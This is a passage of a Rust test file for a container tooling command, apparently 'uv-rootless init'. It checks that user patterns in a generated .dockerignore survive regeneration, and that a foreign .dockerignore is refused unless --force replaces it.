    assert!(project.read(".dockerignore").contains("\n**/.envrc\n"));
    assert!(project
        .read(".dockerignore")
        .ends_with(&format!("{MARKER}\n{mine}")));
}

#[test]
fn a_dockerignore_not_generated_by_uv_rootless_keeps_nothing_and_is_refused() {
    let project = Project::fresh_example("fastapi-service");
    project.write(".dockerignore", &format!("*.log\n{MARKER}\nmine\n"));
    let init = project.run_rejected(&["init", "--base", "python-slim"]);
    assert!(
        init.stderr.contains("your patterns below"),
        "{}",
        init.report()
    );
    // With `--force` it is replaced: no line of a file that is not ours is taken as ours.
    let init = project.run(&["init", "--base", "python-slim", "--force"]);
    assert_eq!(init.code, 0, "{}", init.report());
    assert!(project
        .read(".dockerignore")
        .ends_with(&format!("{MARKER}\n")));
}
